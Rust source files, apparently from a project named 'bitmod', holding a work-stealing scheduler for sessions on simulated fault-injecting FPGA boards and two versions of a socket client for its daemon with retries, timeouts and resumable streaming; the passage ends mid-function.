    if kill.load(Ordering::SeqCst) && !shared.draining.load(Ordering::SeqCst) {
        shared.telemetry.incr(names::FLEET_WORKERS_KILLED, 1);
    }
    let total = started.elapsed().max(Duration::from_micros(1));
    let pct = (100 * busy.as_micros() / total.as_micros()) as u64;
    shared.telemetry.observe(names::FLEET_WORKER_UTILISATION_PCT, pct.min(100));
    shared.changed.notify_all();
}

/// Blocks until this worker has a session to run; `None` means exit
/// (killed, or shut down with nothing left to do).
fn next_session(shared: &Shared, index: usize, kill: &AtomicBool) -> Option<String> {
    let mut sched = shared.sched.lock().expect("sched lock");
    loop {
        if kill.load(Ordering::SeqCst) {
            return None;
        }
        if let Some(id) = sched.queues[index].pop_front() {
            sched.active += 1;
            observe_active(shared, sched.active);
            return Some(id);
        }
        if let Some(id) = sched.injector.pop_front() {
            sched.active += 1;
            observe_active(shared, sched.active);
            return Some(id);
        }
        // Steal the back half of the longest peer queue.
        let victim = (0..sched.queues.len())
            .filter(|&j| j != index && !sched.queues[j].is_empty())
            .max_by_key(|&j| sched.queues[j].len());
        if let Some(j) = victim {
            let take = sched.queues[j].len().div_ceil(2);
            let at = sched.queues[j].len() - take;
            let stolen: Vec<String> = sched.queues[j].split_off(at).into();
            shared.telemetry.incr(names::FLEET_STEAL_COUNT, stolen.len() as u64);
            for id in &stolen {
                if let Some(handle) = shared.store.get(id) {
                    handle.mark_requeued();
                }
            }
            sched.queues[index].extend(stolen);
            continue;
        }
        if shared.shutdown.load(Ordering::SeqCst) && sched.queued() == 0 {
            return None;
        }
        let (guard, _) =
            shared.changed.wait_timeout(sched, Duration::from_millis(50)).expect("sched lock");
        sched = guard;
    }
}

fn observe_active(shared: &Shared, active: usize) {
    shared.telemetry.observe(names::FLEET_SESSIONS_ACTIVE, active as u64);
}

fn session_done(shared: &Shared) {
    let mut sched = shared.sched.lock().expect("sched lock");
    sched.active -= 1;
    observe_active(shared, sched.active);
    drop(sched);
    shared.telemetry.incr(names::FLEET_SESSIONS_DONE, 1);
    shared.changed.notify_all();
}

/// Runs one session on this worker and reports how it left the
/// worker (see [`Verdict`]).
fn run_session(
    shared: &Shared,
    index: usize,
    pool: &mut Option<fpga_sim::Snow3gBoard>,
    kill: &AtomicBool,
    handle: &SessionHandle,
) -> Verdict {
    let spec = handle.spec().clone();
    let layout = handle.layout().clone();
    handle.mark_running(index);
    if layout.journal().exists() {
        shared.telemetry.incr(names::FLEET_SESSIONS_RESUMED, 1);
    }

    let telemetry = match TeeSink::create(&layout.trace(), handle.tap()) {
        Ok(sink) => Telemetry::with_sink(Box::new(sink)),
        // A broken trace sink must not fail the session; metrics
        // still accumulate in memory.
        Err(_) => Telemetry::new(),
    };
    let io = SessionIo {
        journal: Some(layout.journal()),
        resume: ResumePolicy::IfJournalExists,
        telemetry,
        cancel: handle.cancel_token(),
        expected_key: Some(snow3g::vectors::TEST_SET_1_KEY),
    };

    let board = match pool.take().map(Ok).unwrap_or_else(build_board) {
        Ok(board) => board,
        Err(e) => {
            handle.finish(&SessionOutcome::Failed {
                stats: CellStats::default(),
                note: e.to_string(),
            });
            return Verdict::Continue;
        }
    };

    let run = catch_unwind(AssertUnwindSafe(|| {
        if spec.is_noisy() {
            // The spec owns the ambient noise; the fleet owns which
            // board is pathological (`same_ambient` keeps the two
            // separable, so a migrated session replays identically on
            // the healthy peer).
            let mut profile = spec.fault_profile();
            if let Some(dies_at) = shared.pathology.get(index).copied().flatten() {
                profile = profile.with_dies_at(dies_at);
            }
            let noisy = fpga_sim::UnreliableBoard::new(board, profile);
            let gate = KillGate { inner: &noisy, kill };
            let golden = noisy.extract_bitstream();
            let result = spec.run_harnessed(&gate, golden, &io);
            record_board_faults(&io.telemetry, &noisy);
            // Two fault views with different owners: the session-wide
            // counters (journal-restored across migrations) feed the
            // fleet's observed-vs-injected gap, while the board-local
            // wear feeds *this* worker's health score — a healthy
            // board inheriting a dying peer's session is not blamed
            // for the faults the dead board injected.
            let fate = Some((noisy.fault_stats(), noisy.local_stats(), noisy.is_dead()));
            (result, fate, noisy.into_inner())
        } else {
            let gate = KillGate { inner: &board, kill };
            let golden = board.extract_bitstream();
            let result = spec.run_harnessed(&gate, golden, &io);
            (result, None, board)
        }
    }));

    match run {
        Ok((result, fate, board)) => {
            // Torn-checkpoint discards happen inside the session run,
            // against its own telemetry; roll them up where
            // `bitmod status` and the fleet counters can see them.
            let torn = io.telemetry.metrics().counter(names::JOURNAL_TORN_DISCARDED);
            if torn > 0 {
                shared.telemetry.incr(names::JOURNAL_TORN_DISCARDED, torn);
            }
            // Fold the board's own fault accounting into its health
            // score; a dead board is quarantined (durably) instead of
            // returning to the pool.
            let mut board_dead = false;
            if let Some((session_stats, local_stats, dead)) = fate {
                // Roll this run's observed-vs-injected gap — faults
                // the board injected that never surfaced as retries,
                // absorbed by voting — up into the fleet counters,
                // where `bitmod status` reads it.
                let injected = session_stats.transient_failures
                    + session_stats.timeouts
                    + session_stats.truncated_reads
                    + session_stats.bits_flipped;
                let observed = io.telemetry.metrics().counter(names::ORACLE_RETRIES);
                shared.telemetry.incr(names::BOARD_FAULT_GAP, injected.saturating_sub(observed));
                let score = {
                    let mut boards = shared.boards.lock().expect("boards lock");
                    boards[index].observe(&local_stats, dead);
                    boards[index]
                };
                if dead {
                    board_dead = true;
                    health::mark_quarantined(shared.store.root(), index, &score);
                    shared.telemetry.incr(names::FLEET_BOARDS_QUARANTINED, 1);
                }
            }
            if board_dead {
                // The physical board is out of service; its inner
                // simulator does not return to the pool.
                drop(board);
            } else {
                *pool = Some(board);
            }
            match result {
                Ok(report) => {
                    handle.finish(&report.outcome);
                    if board_dead {
                        Verdict::Retire
                    } else {
                        Verdict::Continue
                    }
                }
                Err(e) => {
                    if kill.load(Ordering::SeqCst) {
                        return Verdict::Requeue;
                    }
                    if board_dead {
                        // Board death is board-local, not
                        // session-local: the journal stays on disk and
                        // a healthy peer resumes the exact trace.
                        return Verdict::Migrate;
                    }
                    let outcome = if io.cancel.is_cancelled() {
                        SessionOutcome::Cancelled
                    } else {
                        SessionOutcome::Failed {
                            stats: stats_from(&io.telemetry),
                            note: e.to_string(),
                        }
                    };
                    handle.finish(&outcome);
                    Verdict::Continue
                }
            }
        }
        Err(panic) => {
            // The board moved into the panicked closure and is gone;
            // the pool rebuilds lazily.
            let message = panic
                .downcast_ref::<&str>()
                .map(ToString::to_string)
                .or_else(|| panic.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "session panicked".to_string());
            handle.finish(&SessionOutcome::Failed {
                stats: stats_from(&io.telemetry),
                note: format!("panicked: {message}"),
            });
            Verdict::Continue
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::store::SessionState;
    use super::*;

    fn temp_root(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("bitmod-fleet-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn a_clean_session_recovers_through_the_fleet() {
        let root = temp_root("clean");
        let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("starts");
        let spec = SessionSpec::builder().batch(fpga_sim::GANG_LANES).build().expect("valid");
        let handle = fleet.submit(spec).expect("submits");
        let status = handle.wait();
        assert_eq!(status.state, SessionState::Recovered, "note: {}", status.note);
        assert!(status.stats.physical > 0, "physical loads accounted");
        assert!(handle.layout().result().exists(), "result.json persisted");
        assert!(!handle.layout().journal().exists(), "journal removed on success");
        let counters = fleet.shutdown();
        assert_eq!(counters.counter(names::FLEET_SESSIONS_SUBMITTED), 1);
        assert_eq!(counters.counter(names::FLEET_SESSIONS_DONE), 1);
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn cancelling_a_session_reaches_a_cancelled_terminal_state() {
        let root = temp_root("cancel");
        let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("starts");
        // Cancel before submission can win the race with the worker:
        // cancel the handle immediately; whichever query it lands on,
        // the terminal state must be Cancelled, never a wrong result.
        let spec = SessionSpec::builder().build().expect("valid");
        let handle = fleet.submit(spec).expect("submits");
        handle.cancel();
        let status = handle.wait();
        assert!(
            matches!(status.state, SessionState::Cancelled | SessionState::Recovered),
            "cancel races completion, got {:?} ({})",
            status.state,
            status.note
        );
        let _ = fleet.shutdown();
        let _ = std::fs::remove_dir_all(&root);
    }
}
