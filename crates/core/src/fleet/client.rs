//! The thin fleet client behind `bitmod submit`, `status`, `tail` and
//! `cancel`: one connection, newline-framed requests, JSON-line
//! responses — the exact inverse of [`server`](super::server).

use std::io::{self, BufRead, BufReader, Write};
use std::net::TcpStream;
#[cfg(unix)]
use std::os::unix::net::UnixStream;

use super::server::Endpoint;
use super::session::SessionSpec;
use super::wire;

/// A client-side failure.
#[derive(Debug)]
#[non_exhaustive]
pub enum ClientError {
    /// The connection failed or dropped.
    Io(io::Error),
    /// The server answered `{"ok":false,…}`.
    Server(String),
    /// The server answered something that is not the protocol.
    Protocol(String),
}

impl core::fmt::Display for ClientError {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            ClientError::Io(e) => write!(f, "connection: {e}"),
            ClientError::Server(msg) => write!(f, "server error: {msg}"),
            ClientError::Protocol(line) => write!(f, "unexpected response: {line}"),
        }
    }
}

impl std::error::Error for ClientError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ClientError::Io(e) => Some(e),
            _ => None,
        }
    }
}

impl From<io::Error> for ClientError {
    fn from(e: io::Error) -> Self {
        ClientError::Io(e)
    }
}

#[derive(Debug)]
enum Conn {
    Tcp(TcpStream),
    #[cfg(unix)]
    Unix(UnixStream),
}

impl io::Read for Conn {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match self {
            Conn::Tcp(s) => s.read(buf),
            #[cfg(unix)]
            Conn::Unix(s) => s.read(buf),
        }
    }
}

impl io::Write for Conn {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        match self {
            Conn::Tcp(s) => s.write(buf),
            #[cfg(unix)]
            Conn::Unix(s) => s.write(buf),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        match self {
            Conn::Tcp(s) => s.flush(),
            #[cfg(unix)]
            Conn::Unix(s) => s.flush(),
        }
    }
}

/// One connection to a fleet server.
#[derive(Debug)]
pub struct FleetClient {
    reader: BufReader<Conn>,
    writer: Conn,
}

impl FleetClient {
    /// Connects to a server endpoint.
    ///
    /// # Errors
    ///
    /// The underlying connect error.
    pub fn connect(endpoint: &Endpoint) -> Result<Self, ClientError> {
        let (reader, writer) = match endpoint {
            Endpoint::Tcp(addr) => {
                let stream = TcpStream::connect(addr)?;
                (Conn::Tcp(stream.try_clone()?), Conn::Tcp(stream))
            }
            #[cfg(unix)]
            Endpoint::Unix(path) => {
                let stream = UnixStream::connect(path)?;
                (Conn::Unix(stream.try_clone()?), Conn::Unix(stream))
            }
        };
        Ok(Self { reader: BufReader::new(reader), writer })
    }

    fn send(&mut self, line: &str) -> Result<(), ClientError> {
        writeln!(self.writer, "{line}")?;
        self.writer.flush()?;
        Ok(())
    }

    fn read_line(&mut self) -> Result<String, ClientError> {
        let mut line = String::new();
        if self.reader.read_line(&mut line)? == 0 {
            return Err(ClientError::Io(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "server closed the connection",
            )));
        }
        Ok(line.trim_end().to_string())
    }

    /// One request, one JSON-line response, `ok` checked.
    fn round_trip(&mut self, request: &wire::Request) -> Result<String, ClientError> {
        self.send(&request.to_line())?;
        let line = self.read_line()?;
        if wire::is_ok(&line) {
            Ok(line)
        } else if let Some(message) = wire::string_field(&line, "error") {
            Err(ClientError::Server(message))
        } else {
            Err(ClientError::Protocol(line))
        }
    }

    /// Submits a session; returns its id.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn submit(&mut self, spec: &SessionSpec) -> Result<String, ClientError> {
        let line = self.round_trip(&wire::Request::Submit(spec.clone()))?;
        wire::string_field(&line, "id").ok_or(ClientError::Protocol(line))
    }

    /// One session's status, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure (including an
    /// unknown id).
    pub fn status(&mut self, id: &str) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::Status(id.to_string()))
    }

    /// Every session's status, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn list(&mut self) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::List)
    }

    /// Cancels a session.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn cancel(&mut self, id: &str) -> Result<(), ClientError> {
        self.round_trip(&wire::Request::Cancel(id.to_string())).map(|_| ())
    }

    /// The fleet counters, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn counters(&mut self) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::Counters)
    }

    /// Per-worker board health plus the observed-vs-injected fault
    /// gap, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn health(&mut self) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::Health)
    }

    /// Liveness probe.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn ping(&mut self) -> Result<(), ClientError> {
        self.round_trip(&wire::Request::Ping).map(|_| ())
    }

    /// Asks the server to shut down (it drains its fleet first).
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn shutdown(&mut self) -> Result<(), ClientError> {
        self.round_trip(&wire::Request::Shutdown).map(|_| ())
    }

    /// Streams a session's live NDJSON telemetry into `out` until the
    /// session is terminal; returns the terminal state string.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure (including an
    /// unknown id).
    pub fn tail(&mut self, id: &str, out: &mut dyn Write) -> Result<String, ClientError> {
        self.send(&wire::Request::Tail(id.to_string()).to_line())?;
        loop {
            let line = self.read_line()?;
            if wire::is_tail_done(&line) {
                return wire::string_field(&line, "state").ok_or(ClientError::Protocol(line));
            }
            if line.starts_with("{\"ok\":false") {
                return Err(ClientError::Server(
                    wire::string_field(&line, "error").unwrap_or(line),
                ));
            }
            writeln!(out, "{line}")?;
        }
    }
}
