//! The fleet client behind `bitmod submit`, `status`, `tail` and
//! `cancel`: newline-framed requests, JSON-line responses — the exact
//! inverse of [`server`](super::server) — hardened for a flaky wire.
//!
//! Three behaviours distinguish it from a naive line client:
//!
//! * **deadlines** — every socket carries connect/read/write timeouts
//!   ([`ClientConfig`]), so a daemon that dies mid-`tail` surfaces as
//!   a typed [`ClientError::Timeout`] instead of a permanent block;
//! * **reconnects** — transport failures tear the connection down and
//!   retry with exponential, seeded-jitter backoff (server-reported
//!   errors never retry: the daemon answered, the answer stands);
//! * **idempotence** — [`FleetClient::submit`] attaches a
//!   client-generated token, so a retried submit whose first
//!   acknowledgement was lost mid-frame dedupes server-side against
//!   the session store instead of double-enqueuing, and
//!   [`FleetClient::tail`] counts delivered events into a cursor so a
//!   dropped stream resumes (`tail <id> from=N`) without replaying or
//!   losing events.

use std::io::{self, BufRead, BufReader, Write};
use std::net::TcpStream;
#[cfg(unix)]
use std::os::unix::net::UnixStream;
use std::time::Duration;

use rand::{counter_rng, RngCore};

use super::chaos::NetStream;
use super::server::Endpoint;
use super::session::SessionSpec;
use super::wire;

/// Deadlines and retry policy for one [`FleetClient`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ClientConfig {
    /// TCP connect deadline.
    pub connect_timeout: Duration,
    /// Per-read deadline (also what a dead daemon mid-`tail` hits).
    pub read_timeout: Duration,
    /// Per-write deadline.
    pub write_timeout: Duration,
    /// Transport-failure retries per operation (0 = fail on the first
    /// drop). Server-reported errors are never retried.
    pub retries: u32,
    /// First backoff step (doubles per retry).
    pub backoff_base: Duration,
    /// Backoff ceiling.
    pub backoff_cap: Duration,
    /// Seed for the jittered backoff draws (deterministic per
    /// client).
    pub seed: u64,
}

impl Default for ClientConfig {
    fn default() -> Self {
        Self {
            connect_timeout: Duration::from_secs(5),
            read_timeout: Duration::from_secs(30),
            write_timeout: Duration::from_secs(30),
            retries: 2,
            backoff_base: Duration::from_millis(50),
            backoff_cap: Duration::from_secs(2),
            seed: 0,
        }
    }
}

impl ClientConfig {
    /// Sets the connect deadline.
    #[must_use]
    pub fn with_connect_timeout(mut self, timeout: Duration) -> Self {
        self.connect_timeout = timeout;
        self
    }

    /// Sets the read deadline.
    #[must_use]
    pub fn with_read_timeout(mut self, timeout: Duration) -> Self {
        self.read_timeout = timeout;
        self
    }

    /// Sets the transport-failure retry count.
    #[must_use]
    pub fn with_retries(mut self, retries: u32) -> Self {
        self.retries = retries;
        self
    }

    /// Sets the backoff base and cap.
    #[must_use]
    pub fn with_backoff(mut self, base: Duration, cap: Duration) -> Self {
        self.backoff_base = base;
        self.backoff_cap = cap;
        self
    }

    /// Sets the jitter seed.
    #[must_use]
    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }
}

/// A client-side failure.
#[derive(Debug)]
#[non_exhaustive]
pub enum ClientError {
    /// The connection failed or dropped.
    Io(io::Error),
    /// A deadline expired: the peer is alive enough to hold the
    /// socket open but did not answer in time (or is gone without a
    /// reset). The bound is the configured deadline — never an
    /// unbounded block.
    Timeout(Duration),
    /// The server answered `{"ok":false,…}`.
    Server(String),
    /// The server answered something that is not the protocol.
    Protocol(String),
}

impl core::fmt::Display for ClientError {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            ClientError::Io(e) => write!(f, "connection: {e}"),
            ClientError::Timeout(after) => {
                write!(f, "timed out after {}ms waiting for the server", after.as_millis())
            }
            ClientError::Server(msg) => write!(f, "server error: {msg}"),
            ClientError::Protocol(line) => write!(f, "unexpected response: {line}"),
        }
    }
}

impl std::error::Error for ClientError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ClientError::Io(e) => Some(e),
            _ => None,
        }
    }
}

impl From<io::Error> for ClientError {
    fn from(e: io::Error) -> Self {
        ClientError::Io(e)
    }
}

/// One logical connection to a fleet server (transparently redialled
/// after transport failures, per [`ClientConfig`]).
#[derive(Debug)]
pub struct FleetClient {
    endpoint: Endpoint,
    config: ClientConfig,
    conn: Option<Wire>,
    /// Transport-level reconnects performed (surfaced by the CLI next
    /// to the server's own counters).
    reconnects: u64,
    /// Backoff jitter draw counter (keyed with the config seed).
    backoff_draws: u64,
    /// Submit-token uniqueness: a per-client base mixed from clock,
    /// pid and seed, plus a per-submit counter.
    token_base: u64,
    tokens_issued: u64,
}

#[derive(Debug)]
struct Wire {
    reader: BufReader<Box<dyn NetStream>>,
    writer: Box<dyn NetStream>,
}

/// Maps a transport error to the typed timeout when the deadline is
/// what fired.
fn classify(e: io::Error, deadline: Duration) -> ClientError {
    if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) {
        ClientError::Timeout(deadline)
    } else {
        ClientError::Io(e)
    }
}

/// True when a redial failure proves the listener itself is gone — a
/// refused TCP connect, or a unix socket whose file was unlinked. A
/// reset or broken pipe does NOT qualify: those happen on live but
/// flaky wires.
fn server_gone(e: &ClientError) -> bool {
    matches!(
        e,
        ClientError::Io(ioe)
            if matches!(ioe.kind(), io::ErrorKind::ConnectionRefused | io::ErrorKind::NotFound)
    )
}

impl FleetClient {
    /// Connects to a server endpoint with the default deadlines and
    /// retry policy.
    ///
    /// # Errors
    ///
    /// The underlying connect error (or [`ClientError::Timeout`] when
    /// the connect deadline fires).
    pub fn connect(endpoint: &Endpoint) -> Result<Self, ClientError> {
        Self::connect_with(endpoint, ClientConfig::default())
    }

    /// Connects with explicit deadlines and retry policy.
    ///
    /// # Errors
    ///
    /// The underlying connect error (or [`ClientError::Timeout`] when
    /// the connect deadline fires).
    pub fn connect_with(endpoint: &Endpoint, config: ClientConfig) -> Result<Self, ClientError> {
        let clock = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| u64::try_from(d.as_nanos() & u128::from(u64::MAX)).unwrap_or(0))
            .unwrap_or(0);
        let mut client = Self {
            endpoint: endpoint.clone(),
            config,
            conn: None,
            reconnects: 0,
            backoff_draws: 0,
            token_base: clock ^ u64::from(std::process::id()).rotate_left(32) ^ config.seed,
            tokens_issued: 0,
        };
        client.dial()?;
        Ok(client)
    }

    /// Transport reconnects this client has performed.
    #[must_use]
    pub fn reconnects(&self) -> u64 {
        self.reconnects
    }

    fn dial(&mut self) -> Result<(), ClientError> {
        let stream: Box<dyn NetStream> = match &self.endpoint {
            Endpoint::Tcp(addr) => {
                use std::net::ToSocketAddrs;
                let target = addr
                    .to_socket_addrs()?
                    .next()
                    .ok_or_else(|| ClientError::Protocol(format!("unresolvable '{addr}'")))?;
                let stream = TcpStream::connect_timeout(&target, self.config.connect_timeout)
                    .map_err(|e| classify(e, self.config.connect_timeout))?;
                stream.set_read_timeout(Some(self.config.read_timeout))?;
                stream.set_write_timeout(Some(self.config.write_timeout))?;
                Box::new(stream)
            }
            #[cfg(unix)]
            Endpoint::Unix(path) => {
                let stream = UnixStream::connect(path)?;
                stream.set_read_timeout(Some(self.config.read_timeout))?;
                stream.set_write_timeout(Some(self.config.write_timeout))?;
                Box::new(stream)
            }
        };
        let reader = stream.try_clone_stream()?;
        self.conn = Some(Wire { reader: BufReader::new(reader), writer: stream });
        Ok(())
    }

    fn disconnect(&mut self) {
        self.conn = None;
    }

    fn wire(&mut self) -> Result<&mut Wire, ClientError> {
        if self.conn.is_none() {
            self.dial()?;
        }
        Ok(self.conn.as_mut().expect("dialled above"))
    }

    /// Sleeps the jittered exponential backoff for retry `attempt`
    /// (1-based). The jitter is a counter-keyed draw under the config
    /// seed, so a client's retry schedule is reproducible.
    fn backoff(&mut self, attempt: u32) {
        let doublings = attempt.saturating_sub(1).min(16);
        let step = self.config.backoff_base.saturating_mul(1 << doublings);
        let capped = step.min(self.config.backoff_cap);
        let mut rng = counter_rng(self.config.seed, u64::MAX, self.backoff_draws);
        self.backoff_draws += 1;
        let unit = (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        // Full jitter in [0.5, 1.5): desynchronises reconnect storms
        // without ever collapsing the delay to zero.
        std::thread::sleep(capped.mul_f64(0.5 + unit));
    }

    fn send(&mut self, line: &str) -> Result<(), ClientError> {
        let deadline = self.config.write_timeout;
        let wire = self.wire()?;
        writeln!(wire.writer, "{line}").map_err(|e| classify(e, deadline))?;
        wire.writer.flush().map_err(|e| classify(e, deadline))?;
        Ok(())
    }

    fn read_line(&mut self) -> Result<String, ClientError> {
        let deadline = self.config.read_timeout;
        let wire = self.wire()?;
        let mut line = String::new();
        let n = wire.reader.read_line(&mut line).map_err(|e| classify(e, deadline))?;
        if n == 0 {
            return Err(ClientError::Io(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "server closed the connection",
            )));
        }
        // Frame hygiene, client side: bytes without their newline are
        // a torn frame from a connection that died mid-write. Never
        // parse them — surface a retryable transport error instead.
        if !line.ends_with('\n') {
            return Err(ClientError::Io(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "connection died mid-frame",
            )));
        }
        Ok(line.trim_end().to_string())
    }

    /// One request, one JSON-line response, `ok` checked — no
    /// retries; [`FleetClient::round_trip`] adds them.
    fn try_round_trip(&mut self, line: &str) -> Result<String, ClientError> {
        self.send(line)?;
        let response = self.read_line()?;
        // One line out per request in: leftover buffered bytes mean a
        // duplicated or desynchronised stream. Drop the connection so
        // the next request starts clean (this response already
        // parsed, so it stands).
        if let Some(wire) = &self.conn {
            if !wire.reader.buffer().is_empty() {
                self.disconnect();
            }
        }
        if wire::is_ok(&response) {
            Ok(response)
        } else if let Some(message) = wire::string_field(&response, "error") {
            Err(ClientError::Server(message))
        } else {
            Err(ClientError::Protocol(response))
        }
    }

    /// One request with transport-failure retries: drops the
    /// connection, backs off with jitter, redials, resends. A
    /// server-reported error returns immediately — the daemon
    /// answered; retrying would re-run a request the server already
    /// rejected.
    fn round_trip(&mut self, request: &wire::Request) -> Result<String, ClientError> {
        let line = request.to_line();
        let mut attempt = 0u32;
        loop {
            match self.try_round_trip(&line) {
                Ok(response) => return Ok(response),
                Err(ClientError::Server(message)) => return Err(ClientError::Server(message)),
                Err(e) => {
                    self.disconnect();
                    if attempt >= self.config.retries {
                        return Err(e);
                    }
                    attempt += 1;
                    self.reconnects += 1;
                    self.backoff(attempt);
                }
            }
        }
    }

    /// Submits a session; returns its id. The submit carries a
    /// client-generated idempotency token, so a retry after a lost
    /// acknowledgement returns the original session's id instead of
    /// enqueuing a twin.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn submit(&mut self, spec: &SessionSpec) -> Result<String, ClientError> {
        self.tokens_issued += 1;
        let token = format!("{:016x}-{:04x}", self.token_base, self.tokens_issued);
        self.submit_with_token(spec, &token)
    }

    /// [`FleetClient::submit`] with a caller-chosen idempotency token
    /// (1–64 ASCII alphanumeric/`-`/`_` characters). Two submits with
    /// one token — same client, a retry, or a different process after
    /// a daemon restart — admit exactly one session.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn submit_with_token(
        &mut self,
        spec: &SessionSpec,
        token: &str,
    ) -> Result<String, ClientError> {
        let request = wire::Request::Submit { spec: spec.clone(), token: Some(token.to_string()) };
        let line = self.round_trip(&request)?;
        wire::string_field(&line, "id").ok_or(ClientError::Protocol(line))
    }

    /// One session's status, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure (including an
    /// unknown id).
    pub fn status(&mut self, id: &str) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::Status(id.to_string()))
    }

    /// Every session's status, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn list(&mut self) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::List)
    }

    /// Cancels a session.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn cancel(&mut self, id: &str) -> Result<(), ClientError> {
        self.round_trip(&wire::Request::Cancel(id.to_string())).map(|_| ())
    }

    /// The fleet counters, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn counters(&mut self) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::Counters)
    }

    /// Per-worker board health plus the observed-vs-injected fault
    /// gap, as the raw JSON response line.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn health(&mut self) -> Result<String, ClientError> {
        self.round_trip(&wire::Request::Health)
    }

    /// Liveness probe.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn ping(&mut self) -> Result<(), ClientError> {
        self.round_trip(&wire::Request::Ping).map(|_| ())
    }

    /// Asks the server to shut down (it drains its fleet: running
    /// sessions checkpoint, queued sessions persist for the next
    /// boot). Shutdown is idempotent: if the acknowledgement is lost
    /// but a retry finds the listener gone, the order evidently
    /// landed, and that counts as success — not as a transport error.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure.
    pub fn shutdown(&mut self) -> Result<(), ClientError> {
        let line = wire::Request::Shutdown.to_line();
        let mut attempt = 0u32;
        let mut sent = false;
        loop {
            let result = self.send(&line).and_then(|()| {
                sent = true;
                self.read_line()
            });
            match result {
                Ok(response) => {
                    // The daemon is closing this connection anyway.
                    self.disconnect();
                    return if wire::is_ok(&response) {
                        Ok(())
                    } else if let Some(message) = wire::string_field(&response, "error") {
                        Err(ClientError::Server(message))
                    } else {
                        Err(ClientError::Protocol(response))
                    };
                }
                Err(e) => {
                    self.disconnect();
                    // A refused (or, for unix sockets, unlinked) redial
                    // after the request went out means the server
                    // stopped before its acknowledgement reached us.
                    if sent && server_gone(&e) {
                        return Ok(());
                    }
                    if attempt >= self.config.retries {
                        return Err(e);
                    }
                    attempt += 1;
                    self.reconnects += 1;
                    self.backoff(attempt);
                }
            }
        }
    }

    /// Streams a session's live NDJSON telemetry into `out` until the
    /// session is terminal; returns the terminal state string. The
    /// stream is cursor-resumable: delivered events are counted, and
    /// a transport drop reconnects with `tail <id> from=<count>` so
    /// nothing is replayed into `out` and nothing is lost. Server
    /// heartbeats on idle stretches are consumed (not written to
    /// `out`) and count as liveness — only consecutive failures
    /// without any delivered line burn the retry budget.
    ///
    /// # Errors
    ///
    /// [`ClientError`] on transport or server failure (including an
    /// unknown id).
    pub fn tail(&mut self, id: &str, out: &mut dyn Write) -> Result<String, ClientError> {
        let mut cursor: u64 = 0;
        let mut progress: u64 = 0;
        let mut attempt = 0u32;
        loop {
            let seen = progress;
            match self.try_tail(id, out, &mut cursor, &mut progress) {
                Ok(state) => return Ok(state),
                Err(ClientError::Server(message)) => return Err(ClientError::Server(message)),
                Err(e) => {
                    self.disconnect();
                    if progress > seen {
                        // The stream moved before dropping: a live but
                        // flaky wire, not a dead daemon. Reset the
                        // budget.
                        attempt = 0;
                    }
                    if attempt >= self.config.retries {
                        return Err(e);
                    }
                    attempt += 1;
                    self.reconnects += 1;
                    self.backoff(attempt);
                }
            }
        }
    }

    fn try_tail(
        &mut self,
        id: &str,
        out: &mut dyn Write,
        cursor: &mut u64,
        progress: &mut u64,
    ) -> Result<String, ClientError> {
        let request = wire::Request::Tail { id: id.to_string(), from: *cursor };
        self.send(&request.to_line())?;
        loop {
            let line = self.read_line()?;
            *progress += 1;
            if wire::is_tail_done(&line) {
                return wire::string_field(&line, "state").ok_or(ClientError::Protocol(line));
            }
            if wire::is_heartbeat(&line) {
                // Liveness only — not an event, not part of the
                // cursor.
                continue;
            }
            if line.starts_with("{\"ok\":false") {
